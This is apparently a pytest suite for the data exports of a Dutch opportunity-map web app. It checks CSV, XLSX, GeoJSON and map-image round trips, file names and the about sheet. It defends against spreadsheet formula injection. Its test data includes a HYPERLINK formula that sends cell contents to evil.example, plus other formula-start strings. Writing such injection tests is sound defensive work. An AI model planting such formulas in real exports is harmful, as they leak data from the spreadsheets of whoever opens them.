"""Exports: what an analyst downloads equals what the page shows, opens right, and runs nothing.

Round trips read each file back the way an analyst would (pandas, geopandas, LibreOffice) and
compare it with `filter_initiatives` on the same view.
"""

from __future__ import annotations

import io
import itertools
import json
import re
import shutil
import struct
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest

import app
from kansenkaart import exports, runtime
from kansenkaart.coverage import coverage
from kansenkaart.dataset import DataSet, load_dataset
from kansenkaart.filtering import filter_initiatives
from kansenkaart.i18n import t
from kansenkaart.indicators import INDICATORS
from kansenkaart.problems import DataError
from kansenkaart.settings import load_settings
from kansenkaart.view import View
from server.links import site_url
from tests.conftest import fixture_records, write_data_dir

#: Links in answers and files start here (the settings' address, never the Host header).
SITE = site_url(load_settings())

#: Filter combinations the round trips cover: none, theme, theme+province, all-match, ranges, search.
QUERIES = [
    "",
    "theme=energy",
    "theme=energy&province=PV22",
    "province=PV21",
    "theme=climate,jobs&match=all",
    "kind=programme,initiative&status=ongoing",
    "from=2018&to=2022",
    "q=fryslan",
    "theme=innovation&from=2015&lang=en",
]

#: Cells a spreadsheet would run as formulas (leading tab/CR are stripped on loading, see below).
HOSTILE = {
    "X-1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "X-2": "+31 20 123 4567",
    "X-3": "-2+3",
    "X-4": "@SUM(1+1)",
    "X-5": "=1+1",
}


@pytest.fixture(scope="module")
def client():
    return app.server.test_client()


@pytest.fixture(scope="module")
def data() -> DataSet:
    return runtime.data()


def expected_rows(data: DataSet, query: str) -> pd.DataFrame:
    view, problems = View.from_query(query)
    assert not problems
    filtered = filter_initiatives(data.initiatives, view)
    return exports.export_frame(filtered, data.provinces["name"], view.lang)


def download(client, path: str, query: str) -> bytes:
    response = client.get(f"{path}?{query}")
    assert response.status_code == 200, response.data[:300]
    return response.data


def assert_same_rows(got: pd.DataFrame, expected: pd.DataFrame) -> None:
    """Same columns, ids in the same order and the same values (text as text, numbers as numbers)."""
    assert list(got.columns) == list(exports.EXPORT_COLUMNS)
    assert got["id"].tolist() == expected["id"].tolist()
    for column in exports.TEXT_COLUMNS:
        values = got[column].fillna("").astype(str).tolist()
        assert values == expected[column].fillna("").astype(str).tolist(), column
    for column in ("lat", "lon"):
        assert_same_points(got[column], expected[column])
    years = pd.to_numeric(got["start_year"], errors="coerce").astype("Int64")
    assert years.equals(expected["start_year"].reset_index(drop=True).astype("Int64"))


def assert_same_points(got: pd.Series, expected: pd.Series) -> None:
    """A coordinate column: missing exactly where the row has no point (an empty cell as text,
    never 'nan'), the same number everywhere else."""
    if not pd.api.types.is_numeric_dtype(got):
        text = got.fillna("").astype(str)
        assert not text.str.strip().str.lower().isin(["nan", "none", "null"]).any()
        got = pd.to_numeric(text.mask(text.eq("")))
    missing = expected.isna().to_numpy()
    assert got.isna().to_numpy().tolist() == missing.tolist()
    assert got[~missing].tolist() == pytest.approx(expected[~missing].tolist())


def province_rows(frame: pd.DataFrame) -> int:
    """Rows without a point: the province-wide ones."""
    return int((frame["location_precision"] == "province").sum())


# --- round trips on the real data -----------------------------------------------------------


@pytest.mark.parametrize("query", QUERIES)
def test_csv_round_trip(client, data, query):
    body = download(client, "/export/initiatives.csv", query)
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    got = pd.read_csv(io.BytesIO(body), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    expected = expected_rows(data, query)
    assert_same_rows(got, expected)
    no_point = got["location_precision"] == "province"
    assert (got.loc[no_point, ["lat", "lon"]] == "").all().all()
    assert (got.loc[~no_point, ["lat", "lon"]] != "").all().all()


@pytest.mark.parametrize("query", QUERIES)
def test_xlsx_round_trip(client, data, query):
    body = download(client, "/export/initiatives.xlsx", query)
    got = pd.read_excel(io.BytesIO(body), sheet_name="initiatives", dtype=str, na_filter=False)
    assert_same_rows(got, expected_rows(data, query))


def test_xlsx_leaves_cells_without_a_point_empty(client, data):
    body = download(client, "/export/initiatives.xlsx", "")
    sheet = openpyxl.load_workbook(io.BytesIO(body))["initiatives"]
    header = [c.value for c in sheet[1]]
    lat, lon, precision = (header.index(c) for c in ("lat", "lon", "location_precision"))
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    empty = [(r[lat], r[lon]) for r in rows if r[precision] == "province"]
    points = [(r[lat], r[lon]) for r in rows if r[precision] != "province"]
    assert len(empty) == province_rows(expected_rows(data, "")) > 0
    assert set(empty) == {(None, None)}
    assert all(isinstance(x, float) and isinstance(y, float) for x, y in points)


@pytest.mark.parametrize("query", QUERIES)
def test_geojson_round_trip(client, data, query):
    body = download(client, "/export/initiatives.geojson", query)
    expected = expected_rows(data, query)
    if expected.empty:
        assert '"features": []' in body.decode()
        return
    got = gpd.read_file(io.BytesIO(body))
    assert_same_rows(pd.DataFrame(got.drop(columns="geometry")), expected)
    null = got.geometry.isna().to_numpy()
    assert int(null.sum()) == province_rows(expected)
    points = got.geometry[~null]
    assert points.x.tolist() == pytest.approx(expected.loc[~null, "lon"].tolist())
    assert points.y.tolist() == pytest.approx(expected.loc[~null, "lat"].tolist())


def test_fryslan_survives_every_format(client):
    query = "province=PV21"
    csv_text = download(client, "/export/initiatives.csv", query).decode("utf-8-sig")
    assert "Fryslân" in csv_text
    book = pd.read_excel(io.BytesIO(download(client, "/export/initiatives.xlsx", query)))
    assert set(book["province_name"]) == {"Fryslân"}
    assert "Fryslân" in download(client, "/export/initiatives.geojson", query).decode("utf-8")


def test_geojson_is_rfc7946_points_at_real_coordinates(client, data):
    response = client.get("/export/initiatives.geojson")
    assert response.mimetype == "application/geo+json"
    assert b"NaN" not in response.data  # not JSON; a GIS would refuse the file
    collection = response.get_json(force=True)
    assert collection["type"] == "FeatureCollection" and "crs" not in collection
    frame = data.initiatives.set_index("id")
    csv_rows = pd.read_csv(
        io.BytesIO(download(client, "/export/initiatives.csv", "")), encoding="utf-8-sig"
    ).set_index("id")
    nulls = 0
    for feature in collection["features"]:
        row, properties = frame.loc[feature["id"]], feature["properties"]
        assert set(properties) == set(exports.EXPORT_COLUMNS)
        if row["location_precision"] == "province":
            nulls += 1
            assert feature["geometry"] is None  # RFC 7946 3.2: a feature without a location
            assert properties["lat"] is None and properties["lon"] is None
        else:
            point = [csv_rows.at[feature["id"], "lon"], csv_rows.at[feature["id"], "lat"]]
            assert feature["geometry"] == {"type": "Point", "coordinates": point}
            assert point == [row["lon"], row["lat"]]
    assert nulls == province_rows(expected_rows(data, "")) > 0


def test_a_row_without_a_point_has_a_null_geometry():
    frame = pd.DataFrame({column: ["x", "y"] for column in exports.EXPORT_COLUMNS})
    frame["lat"], frame["lon"] = [52.5, float("nan")], [5.5, float("nan")]
    frame["start_year"] = pd.array([None, 2020], "Int64")
    features = json.loads(exports.geojson_bytes(frame))["features"]
    assert features[0]["geometry"] == {"type": "Point", "coordinates": [5.5, 52.5]}
    assert features[1]["geometry"] is None
    assert features[1]["properties"]["lat"] is None and features[1]["properties"]["name"] == "y"


def test_helper_columns_are_not_exported(client):
    header = download(client, "/export/initiatives.csv", "").decode("utf-8-sig").splitlines()[0]
    assert header == ",".join(f'"{c}"' for c in exports.EXPORT_COLUMNS)  # every field quoted
    assert {"location_precision", "place", "same_as"} <= set(exports.EXPORT_COLUMNS)
    assert "theme_" not in header and "search_text" not in header and "map_lat" not in header


# --- file names and the about sheet ---------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ("", "kansenkaart_2026-11-24.csv"),
        ("theme=energy&province=PV22", "kansenkaart_2026-11-24_drenthe_energie.csv"),
        (
            "theme=energy&province=PV22&metric=per100k",
            "kansenkaart_2026-11-24_drenthe_energie_per100k.csv",
        ),
        ("theme=energy&province=PV21&lang=en", "kansenkaart_2026-11-24_fryslan_energy.csv"),
        ("metric=lq", "kansenkaart_2026-11-24.csv"),  # no theme: the map shows the count
        (
            "theme=climate,jobs&match=all&lang=en",
            "kansenkaart_2026-11-24_climate_jobs_all-themes.csv",
        ),
        (
            "kind=icoonproject&status=ongoing&lang=en",
            "kansenkaart_2026-11-24_flagship-project_ongoing.csv",
        ),
        ("from=2018", "kansenkaart_2026-11-24_from2018.csv"),
        (
            "from=2018&to=2020&q=Fryslân%20water",
            "kansenkaart_2026-11-24_2018-2020_q-fryslan-water.csv",
        ),
        ("q=%E2%82%AC%E2%82%AC", "kansenkaart_2026-11-24.csv"),
    ],
)
def test_file_names_carry_date_and_filters(data, query, name):
    view, problems = View.from_query(query)
    assert not problems
    day = datetime(2026, 11, 24, tzinfo=UTC)
    assert exports.export_filename(view, "csv", day, data.provinces["name"]) == name


def test_province_file_names_say_so(data):
    view, _ = View.from_query("theme=energy&metric=per100k")
    day = datetime(2026, 12, 2, tzinfo=UTC)
    name = exports.export_filename(view, "csv", day, data.provinces["name"], "provinces")
    assert name == "kansenkaart_2026-12-02_provincies_energie_per100k.csv"


def test_downloads_are_attachments_named_after_the_filters(client):
    for subject, extension in [
        (subject, extension)
        for subject in ("initiatives", "provinces")
        for extension in ("csv", "xlsx", "geojson")
    ]:
        response = client.get(f"/export/{subject}.{extension}?theme=energy&province=PV21")
        disposition = response.headers["Content-Disposition"]
        kind = "_provincies" if subject == "provinces" else ""
        assert re.fullmatch(
            rf'attachment; filename="kansenkaart_\d{{4}}-\d\d-\d\d{kind}_fryslan_energie\.{extension}"',
            disposition,
        )
        assert disposition.isascii()


def test_about_sheet_says_what_when_where_from_and_how_back(client):
    body = download(client, "/export/initiatives.xlsx", "theme=energy&province=PV21&lang=en")
    book = openpyxl.load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["initiatives", "provinces", "About this export"]
    about = {row[0]: row[1] for row in book["About this export"].iter_rows(values_only=True)}
    assert about["Filters"] == "Themes: energy; Province: Fryslân"
    assert about["Number of rows"] == book["initiatives"].max_row - 1
    assert datetime.fromisoformat(about["Exported (UTC)"]).tzinfo is not None
    assert all(credit in about["Sources and licences"] for credit in CREDITS)
    assert "GeoNames (CC BY 4.0) and sourced supplement" in about["Sources and licences"]
    assert "source_url" in about["Initiatives"]
    assert "location_precision = province" in about["Location and counting"]
    assert about["Open this view"] == SITE + "/?theme=energy&province=PV21&lang=en"


#: Credits the licences ask for, word for word in both languages.
CREDITS = (
    "CBS / Kadaster (PDOK), CC BY 4.0; vereenvoudigd door cartomap/nl",
    "GeoNames (CC BY 4.0)",
    "CBS StatLine (CC BY 4.0)",
    "geoFluxus ICER 2023 (PBL, in opdracht van IPO)",
    "Klimaatmonitor (Rijkswaterstaat)",
)


@pytest.mark.parametrize("lang", ["nl", "en"])
def test_about_sheet_carries_the_coverage_note_and_sources(data, lang):
    view, _ = View.from_query(f"lang={lang}")
    covered = coverage(data.initiatives)
    now = datetime(2026, 12, 2, tzinfo=UTC)
    about = exports.about_rows(view, data.provinces["name"], 3, now, "http://x/", coverage=covered)
    labels = dict(about)
    assert labels[t("export.about_coverage", lang)] == covered.note(lang)
    assert all(credit in labels[t("export.about_sources", lang)] for credit in CREDITS)
    book = openpyxl.load_workbook(
        io.BytesIO(exports.xlsx_bytes(expected_rows(data, ""), about, lang))
    )
    sheet = book[t("export.about_title", lang)]
    assert {row[0]: row[1] for row in sheet.iter_rows(values_only=True)} == labels
    without = dict(exports.about_rows(view, data.provinces["name"], 3, now, "http://x/"))
    assert t("export.about_coverage", lang) not in without  # left out, never guessed


# --- formula injection ----------------------------------------------------------------------


@pytest.fixture
def hostile_data(tmp_path, monkeypatch) -> Iterator[DataSet]:
    """The app serving a synthetic data folder whose texts try to become formulas."""
    records = fixture_records()
    for record, (id_, text) in zip(records, HOSTILE.items(), strict=False):
        record["id"], record["name"], record["organisations"] = id_, text, text
    dataset = load_dataset(write_data_dir(tmp_path / "data", records))
    monkeypatch.setattr(runtime, "data", lambda: dataset)
    yield dataset


def test_neutralise_prefixes_formula_starts_only():
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert exports.neutralise(text) == "'" + text
    for text in ("Fryslân", "1-2", "a=b", "", "'quoted"):
        assert exports.neutralise(text) == text


def test_csv_neutralises_formula_cells(client, hostile_data):
    body = download(client, "/export/initiatives.csv", "")
    got = pd.read_csv(io.BytesIO(body), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    for id_, text in HOSTILE.items():
        row = got.set_index("id").loc[id_]
        assert row["name"] == "'" + text and row["organisations"] == "'" + text
    assert got["lat"].astype(float).gt(0).all()  # numbers stay numbers


def test_csv_neutralises_tab_and_carriage_return():
    frame = pd.DataFrame({column: ["x", "y"] for column in exports.EXPORT_COLUMNS})
    frame["lat"], frame["lon"], frame["start_year"] = 52.0, 5.0, pd.array([None, 2020], "Int64")
    frame["name"] = ["\tcmd", "\r=1+1"]
    got = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)), encoding="utf-8-sig", dtype=str)
    assert got["name"].tolist() == ["'\tcmd", "'\r=1+1"]


def test_xlsx_stores_formula_like_text_as_text(client, hostile_data):
    body = download(client, "/export/initiatives.xlsx", "")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    sheet = openpyxl.load_workbook(io.BytesIO(body))["initiatives"]
    header = [c.value for c in sheet[1]]
    by_id = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for id_, text in HOSTILE.items():
        cell = by_id[id_][header.index("name")]
        assert cell.data_type == "s" and cell.value == "'" + text
    assert isinstance(by_id["X-1"][header.index("lat")].value, float)


def test_control_characters_are_refused_naming_row_and_field(tmp_path):
    """Validation keeps them out of the data (issue 15); the writer would survive them anyway."""
    records = fixture_records()
    records[0]["summary"] = "bell \x07 inside a summary"
    with pytest.raises(DataError) as refused:
        load_dataset(write_data_dir(tmp_path / "data", records))
    (problem,) = refused.value.problems
    assert (problem.line, problem.field) == (
        2,
        "summary",
    ) and "control character" in problem.message


def test_xlsx_drops_characters_xml_cannot_hold(data):
    frame = expected_rows(data, "").head(1).copy()
    frame["summary"] = ["bell \x07 inside a summary"]
    body = exports.xlsx_bytes(frame, [("a", "b")], "nl")
    summaries = pd.read_excel(io.BytesIO(body))["summary"].tolist()
    assert summaries == ["bell  inside a summary"]


# --- a real spreadsheet program -------------------------------------------------------------

SOFFICE = shutil.which("soffice")


def libreoffice_csv(xlsx: bytes, folder: Path) -> pd.DataFrame:
    """The first sheet as LibreOffice Calc reads it, saved as UTF-8 CSV."""
    source = folder / "export.xlsx"
    source.write_bytes(xlsx)
    profile = (folder / "profile").as_uri()
    command = [
        SOFFICE,
        f"-env:UserInstallation={profile}",
        "--headless",
        "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76,1",
        "--outdir",
        str(folder),
        str(source),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return pd.read_csv(folder / "export.csv", dtype=str, keep_default_na=False)


@pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice (soffice) is not installed: apt-get install -y --no-install-recommends libreoffice-calc-nogui",
)
def test_libreoffice_reads_the_xlsx_as_exported(client, data, tmp_path):
    query = "theme=energy,climate"
    got = libreoffice_csv(download(client, "/export/initiatives.xlsx", query), tmp_path)
    assert_same_rows(got, expected_rows(data, query))


@pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice (soffice) is not installed: apt-get install -y --no-install-recommends libreoffice-calc-nogui",
)
def test_libreoffice_runs_no_formula(client, hostile_data, tmp_path):
    got = libreoffice_csv(download(client, "/export/initiatives.xlsx", ""), tmp_path)
    names = got.set_index("id")["name"]
    for id_, text in HOSTILE.items():
        assert names[id_] == "'" + text  # shown as typed, never computed ("=1+1" is not "2")


# --- map images -----------------------------------------------------------------------------


def png_size(body: bytes) -> tuple[int, int]:
    assert body[:8] == b"\x89PNG\r\n\x1a\n"
    return struct.unpack(">II", body[16:24])


def test_png_map(client):
    response = client.get("/export/map.png?theme=energy&province=PV22")
    assert response.status_code == 200 and response.mimetype == "image/png"
    width, height = png_size(response.data)
    assert (width, height) == (
        exports.IMAGE_SIZE["width"] * exports.IMAGE_SCALE["png"],
        exports.IMAGE_SIZE["height"] * exports.IMAGE_SCALE["png"],
    )
    assert len(response.data) > 50_000  # a drawn map, not a blank sheet
    assert response.headers["Content-Disposition"].endswith('_drenthe_energie.png"')


def test_svg_map_has_title_and_credit(client):
    response = client.get("/export/map.svg?theme=energy&lang=en&q=%3Cb%3Ebold%3C%2Fb%3E")
    assert response.status_code == 200 and response.mimetype == "image/svg+xml"
    svg = response.data.decode("utf-8")
    assert "<svg" in svg
    assert "Circular Economy Opportunity Map" in svg and "Themes: energy" in svg
    assert "CC BY 4.0" in svg
    # The search term stays text, not markup: its brackets are escaped, "bold" is not bold.
    assert re.search(r"(&lt;|&#60;)b(&gt;|&#62;)bold", svg)
    assert 'bold">bold' not in svg


def test_images_need_no_network():
    """Everything Chromium loads is a local file: plotly.js, the base map, no MathJax."""
    from kaleido import PageGenerator

    page = PageGenerator(plotly=exports.plotly_js_url(), mathjax=False).generate_index()
    assert not re.search(r"(src|href)=[\"']?https?:", page)
    assert exports.TOPOJSON_URL.startswith("file://")
    topojson = Path(exports.TOPOJSON_URL.removeprefix("file://"))
    assert (topojson / "europe_110m.json").is_file()


UNSHARE = shutil.which("unshare")


def _can_unshare_network() -> bool:
    if UNSHARE is None:
        return False
    return subprocess.run([UNSHARE, "-n", "true"], capture_output=True).returncode == 0


@pytest.mark.slow
@pytest.mark.skipif(
    not _can_unshare_network(), reason="needs `unshare -n` (root) to cut the network"
)
def test_png_renders_with_the_network_cut(tmp_path):
    script = (
        "import app; r = app.server.test_client().get('/export/map.png?theme=energy');"
        "assert r.status_code == 200, r.data[:200]; print(len(r.data))"
    )
    result = subprocess.run(
        [UNSHARE, "-n", sys.executable, "-c", script],
        cwd=Path(app.__file__).parent,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert int(result.stdout.split()[-1]) > 50_000


# --- province figures -----------------------------------------------------------------------

PROVINCE_QUERIES = ["", "theme=energy&metric=per100k", "province=PV21&lang=en", "kind=programme"]


def api_provinces(client, query: str) -> list[dict]:
    return client.get(f"/api/provinces?{query}").get_json()["provinces"]


def assert_figures_match_the_api(rows: list[dict], api: list[dict]) -> None:
    """The file's flat columns say what /api/provinces says, number for number."""
    assert [r["statcode"] for r in rows] == [p["statcode"] for p in api]
    for row, figures in zip(rows, api, strict=True):
        assert row["name"] == figures["name"]
        assert row["population"] == figures["population"] and row["population_year"] == 2024
        assert row["count"] == figures["count"]
        for column, expected in [
            ("per_100k", figures["per_100k"]),
            ("value", figures["value"]),
            *((f"lq_{theme}", lq) for theme, lq in figures["lq"].items()),
            *((key, value) for key, value in figures["indicators"].items()),
        ]:
            assert_same_number(row[column], expected, column)
        for theme, verdict in figures["lq_verdict"].items():
            assert row[f"lq_{theme}_verdict"] == verdict
            assert (row[f"lq_{theme}_reason"] or None) == figures["lq_null_reason"][theme]


def assert_same_number(got: object, expected: float | None, column: str) -> None:
    if expected is None:
        assert got is None or got == "" or (isinstance(got, float) and got != got), column
    else:
        assert float(got) == pytest.approx(expected, rel=1e-9), column  # type: ignore[arg-type]


def frame_records(frame: pd.DataFrame) -> list[dict]:
    return frame.astype(object).where(frame.notna(), None).to_dict("records")


@pytest.mark.parametrize("query", PROVINCE_QUERIES)
@pytest.mark.parametrize("dialect", ["standard", "excel-nl"])
def test_province_csv_round_trip(client, query, dialect):
    body = download(client, "/export/provinces.csv", f"{query}&dialect={dialect}")
    assert body.startswith(b"\xef\xbb\xbf")
    separator, decimal = exports.CSV_DIALECTS[dialect]
    got = pd.read_csv(io.BytesIO(body), encoding="utf-8-sig", sep=separator, decimal=decimal)
    assert_figures_match_the_api(frame_records(got), api_provinces(client, query))
    lang = View.from_query(query)[0].lang
    for key in INDICATORS:
        assert {f"{key}_unit", f"{key}_year", f"{key}_source"} <= set(got.columns)
        assert str(got.loc[0, f"{key}_unit"]) == INDICATORS[key].unit[lang]
        assert str(got.loc[0, f"{key}_source"])


@pytest.mark.parametrize("query", PROVINCE_QUERIES)
def test_province_xlsx_round_trip(client, query):
    body = download(client, "/export/provinces.xlsx", query)
    book = openpyxl.load_workbook(io.BytesIO(body))
    assert book.sheetnames[0] == "provinces" and len(book.sheetnames) == 2
    got = pd.read_excel(io.BytesIO(body), sheet_name="provinces")
    assert_figures_match_the_api(frame_records(got), api_provinces(client, query))


def test_initiatives_xlsx_carries_the_province_figures(client):
    query = "theme=energy&kind=programme,initiative"
    body = download(client, "/export/initiatives.xlsx", query)
    got = pd.read_excel(io.BytesIO(body), sheet_name="provinces")
    assert_figures_match_the_api(frame_records(got), api_provinces(client, query))


def signed_area(ring: list[list[float]]) -> float:
    """Shoelace formula: positive for a counter-clockwise ring (x east, y north)."""
    return sum(x0 * y1 - x1 * y0 for (x0, y0), (x1, y1) in itertools.pairwise(ring)) / 2


@pytest.mark.parametrize("query", PROVINCE_QUERIES)
def test_province_geojson_is_rfc7946_with_the_api_figures(client, query):
    response = client.get(f"/export/provinces.geojson?{query}")
    assert response.status_code == 200 and response.mimetype == "application/geo+json"
    collection = json.loads(response.data)
    rings = 0
    for feature in collection["features"]:
        geometry = feature["geometry"]
        polygons = (
            [geometry["coordinates"]] if geometry["type"] == "Polygon" else geometry["coordinates"]
        )
        for exterior, *holes in polygons:
            assert signed_area(exterior) > 0  # RFC 7946 3.1.6: exterior counter-clockwise
            assert all(signed_area(hole) < 0 for hole in holes)
            rings += 1
    assert rings >= len(collection["features"])
    records = [feature["properties"] for feature in collection["features"]]
    assert_figures_match_the_api(records, api_provinces(client, query))
    got = gpd.read_file(io.BytesIO(response.data))
    assert got.geometry.is_valid.all() and got.crs.to_epsg() == 4326
    assert got["statcode"].tolist() == [r["statcode"] for r in records]


def test_the_original_province_shapes_are_clockwise_so_orienting_matters(data):
    """data/provinces.geojson winds its exterior rings clockwise; the export turns them."""
    for feature in data.geojson["features"]:
        for geometry, sign in [
            (feature["geometry"], -1),
            (exports.counter_clockwise(feature["geometry"]), 1),
        ]:
            polygons = geometry["coordinates"]
            if geometry["type"] == "Polygon":
                polygons = [polygons]
            assert all(
                sign * signed_area([list(p) for p in polygon[0]]) > 0 for polygon in polygons
            )


# --- dialects, labels, the about sheet ------------------------------------------------------


@pytest.mark.parametrize("query", ["", "theme=energy&lang=en", "q=fryslan"])
def test_excel_nl_csv_round_trip(client, data, query):
    body = download(client, "/export/initiatives.csv", f"{query}&dialect=excel-nl")
    text = body.decode("utf-8-sig")
    assert text.splitlines()[0] == ";".join(f'"{c}"' for c in exports.EXPORT_COLUMNS)
    got = pd.read_csv(
        io.BytesIO(body),
        encoding="utf-8-sig",
        sep=";",
        decimal=",",
        dtype=str,
        keep_default_na=False,
    )
    expected = expected_rows(data, query)
    points = got[["lat", "lon"]].replace("", None)
    assert not points.stack().str.contains(r"\.").any()  # decimal commas, no points
    got[["lat", "lon"]] = points.apply(lambda c: c.str.replace(",", ".", regex=False))
    assert_same_rows(got, expected)


def test_numbers_have_no_thousands_separator():
    frame = pd.DataFrame({"name": ["a"], "big": [1234567.25], "whole": [1234567]})
    for dialect, expected in [("standard", '"1234567.25"'), ("excel-nl", '"1234567,25"')]:
        line = exports.csv_bytes(frame, dialect).decode("utf-8-sig").splitlines()[1]
        separator = exports.CSV_DIALECTS[dialect][0]
        assert line == separator.join(['"a"', expected, '"1234567"'])


@pytest.mark.parametrize(("lang", "energy"), [("nl", "energie"), ("en", "energy")])
def test_label_columns_in_the_export_language(client, lang, energy):
    body = download(client, "/export/initiatives.csv", f"theme=energy&lang={lang}")
    got = pd.read_csv(io.BytesIO(body), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    columns = list(got.columns)
    for key, label in exports.LABELLED.items():
        assert columns.index(label) == columns.index(key) + 1
    assert got["themes_label"].str.contains(energy).all()
    for _, row in got.iterrows():
        assert row["themes_label"] == "; ".join(
            t(f"theme.{k}", lang) for k in row["themes"].split(";")
        )
        assert row["kind_label"] == t(f"kind.{row['kind']}", lang)
        assert row["status_label"] == t(f"status.{row['status']}", lang)


def test_about_sheet_states_metric_version_population_and_links(client, data):
    query = "theme=energy&metric=co2_per_inhabitant&lang=en"
    body = download(client, "/export/provinces.xlsx", query)
    sheet = openpyxl.load_workbook(io.BytesIO(body))["About this export"]
    rows = {row[0].value: row[1] for row in sheet.iter_rows()}
    assert "2023" in rows["Map colours by"].value or "20" in rows["Map colours by"].value
    assert "Klimaatmonitor" in rows["Map colours by"].value
    assert data.version in rows["Data version"].value
    assert rows["Population (CBS) as of 1 January"].value == 2024
    assert rows["Coverage"].value == coverage(data.initiatives).note("en")
    view_link = rows["Open this view"]
    assert view_link.hyperlink.target == view_link.value == SITE + f"/?{query}"
    sources = [row[1] for row in sheet.iter_rows() if row[0].value == "Source of the map's figure"]
    assert sources and all(c.hyperlink.target == c.value.strip() for c in sources)
    assert all(c.value.startswith("https://") for c in sources)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


# --- the page's links -----------------------------------------------------------------------


def test_the_dutch_page_links_the_dutch_excel_csv():
    from callbacks.downloads import LINKS_FUNCTION
    from ui import ids
    from ui.layout import _downloads

    def hrefs(lang: str) -> dict[str, str]:
        links = _downloads(lang, "").children[1:]
        return {link.id.removeprefix(ids.DOWNLOAD_PREFIX): link.href for link in links}

    assert hrefs("nl")["csv"] == "/export/initiatives.csv?dialect=excel-nl"
    assert hrefs("nl")["provinces_csv"] == "/export/provinces.csv?dialect=excel-nl"
    assert hrefs("nl")["xlsx"] == "/export/initiatives.xlsx"
    assert hrefs("en")["csv"] == "/export/initiatives.csv"
    assert set(hrefs("en")) >= {"provinces_csv", "provinces_xlsx", "provinces_geojson"}
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed: the browser side is not checked")
    script = (
        f"const f = ({LINKS_FUNCTION});"
        "console.log(JSON.stringify([f('?theme=energy', 'nl'), f('', 'nl'), f('?lang=en', 'en')]));"
    )
    result = subprocess.run([node, "-e", script], capture_output=True, text=True, check=True)
    dutch, plain, english = (
        dict(zip(ids.DOWNLOADS, r, strict=True)) for r in json.loads(result.stdout)
    )
    assert dutch["csv"] == "/export/initiatives.csv?theme=energy&dialect=excel-nl"
    assert dutch["provinces_csv"] == "/export/provinces.csv?theme=energy&dialect=excel-nl"
    assert dutch["provinces_geojson"] == "/export/provinces.geojson?theme=energy"
    assert plain["csv"] == "/export/initiatives.csv?dialect=excel-nl"
    assert english["csv"] == "/export/initiatives.csv?lang=en"
    assert english["png"] == "/export/map.png?lang=en"


# --- CSV in a real spreadsheet program ------------------------------------------------------

#: LibreOffice's CSV filter: separator, text delimiter ("), UTF-8 (76), from line 1, no column
#: formats, and the locale whose decimal sign the dialect uses (1033 en-US, 1043 nl-NL).
CSV_FILTERS = {"standard": "CSV:44,34,76,1,,1033", "excel-nl": "CSV:59,34,76,1,,1043"}


def libreoffice_open_csv(files: dict[str, bytes], dialect: str, folder: Path) -> dict[str, list]:
    """Each CSV as LibreOffice Calc opens it with the dialect's separator, saved as XLSX and read
    back with openpyxl: {name: rows of cells}."""
    folder.mkdir(parents=True, exist_ok=True)
    sources = []
    for name, body in files.items():
        sources.append(folder / f"{name}.csv")
        sources[-1].write_bytes(body)
    command = [
        SOFFICE,
        f"-env:UserInstallation={(folder / 'profile').as_uri()}",
        "--headless",
        f"--infilter={CSV_FILTERS[dialect]}",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(folder / "out"),
        *map(str, sources),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    return {
        name: list(openpyxl.load_workbook(folder / "out" / f"{name}.xlsx").active.iter_rows())
        for name in files
    }


def assert_cells_are_the_data(rows: list, frame: pd.DataFrame, dialect: str) -> None:
    """Every cell LibreOffice shows equals the data: numbers as numbers, texts as written (with
    the apostrophe before a formula-like start), empty where the data has nothing."""
    header, *body = rows
    assert [c.value for c in header] == list(frame.columns)
    assert len(body) == len(frame)
    texts = set(exports.text_columns(frame))
    safe = exports._safe_text(frame)
    decimal = exports.CSV_DIALECTS[dialect][1]
    for cells, (_, row) in zip(body, safe.iterrows(), strict=True):
        for cell, column in zip(cells, frame.columns, strict=True):
            want = row[column]
            assert cell.data_type != "f", (column, cell.value)
            if column not in texts:
                if pd.isna(want):
                    assert cell.value is None, column
                else:
                    assert cell.value == pytest.approx(float(want)), column
            elif want == "":
                assert cell.value is None, column
            elif isinstance(cell.value, int | float):  # a text that reads as a number, e.g. a year
                assert cell.value == pytest.approx(float(want.replace(decimal, "."))), column
            else:
                assert cell.value == want, column


def province_frame(data: DataSet, query: str) -> pd.DataFrame:
    view, problems = View.from_query(query)
    assert not problems
    return exports.province_table(data, view)


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
@pytest.mark.parametrize("dialect", ["standard", "excel-nl"])
def test_libreoffice_opens_both_csv_dialects_cell_for_cell(client, data, tmp_path, dialect):
    queries = {"all": "", "energy": "theme=energy&lang=en", "drenthe": "province=PV22"}
    files = {
        f"{subject}_{name}": download(client, f"/export/{subject}.csv", f"{q}&dialect={dialect}")
        for subject in ("initiatives", "provinces")
        for name, q in queries.items()
    }
    opened = libreoffice_open_csv(files, dialect, tmp_path)
    for name, query in queries.items():
        assert_cells_are_the_data(
            opened[f"initiatives_{name}"], expected_rows(data, query), dialect
        )
        assert_cells_are_the_data(opened[f"provinces_{name}"], province_frame(data, query), dialect)


#: Texts that try to become formulas, at the start of a cell or after a `;` a Dutch Excel splits on.
